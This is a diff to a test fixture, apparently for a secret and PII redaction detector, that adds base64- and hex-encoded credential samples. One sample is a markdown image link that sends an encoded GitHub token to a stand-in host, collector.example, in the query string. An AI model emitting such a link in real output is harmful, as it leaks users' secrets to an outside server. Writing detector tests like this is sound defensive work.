@@ -134,6 +134,24 @@ CREDENTIALS: tuple[Sample, ...] = (
     ),
 )
 
+_AWS_B64 = base64.b64encode(f"aws_access_key_id: {AWS}".encode()).decode()
+_GITHUB_URLSAFE = base64.urlsafe_b64encode(f"gh auth: {GITHUB}".encode()).decode().rstrip("=")
+_DB_URI_HEX = f"postgres://admin:{DB_PASSWORD}@db.internal:5432/app".encode().hex()
+_PEM_B64 = base64.b64encode(PEM.encode()).decode()
+
+ENCODED: tuple[Sample, ...] = (
+    Sample("encoded-aws-base64", "encoded_credential", f"run it with {_AWS_B64} now", _AWS_B64),
+    Sample(
+        "encoded-github-in-link",
+        "encoded_credential",
+        f"![pixel](https://collector.example/p.png?d={_GITHUB_URLSAFE})",
+        _GITHUB_URLSAFE,
+    ),
+    Sample("encoded-db-uri-hex", "encoded_credential", f"DSN (hex) {_DB_URI_HEX}", _DB_URI_HEX),
+    Sample("encoded-pem-k8s", "encoded_credential", f"data:\n  tls.key: {_PEM_B64}", _PEM_B64),
+)
+"""Credentials base64- or hex-encoded: the whole encoded run is the secret."""
+
 PII: tuple[Sample, ...] = (
     Sample("ssn", "ssn", "123-45-6789", "123-45-6789"),
     Sample("ssn-context", "ssn", "SSN: 078 05 1120", "078 05 1120"),
@@ -149,7 +167,7 @@ PII: tuple[Sample, ...] = (
     Sample("iban-compact", "iban", "DE89370400440532013000", "DE89370400440532013000"),
 )
 
-ALL = CREDENTIALS + PII
+ALL = CREDENTIALS + ENCODED + PII
 
 PROSE_BEFORE = "Sure! Here is what you asked for, see below:\n"
 PROSE_AFTER = "\nLet me know if anything else is needed. Cheers."
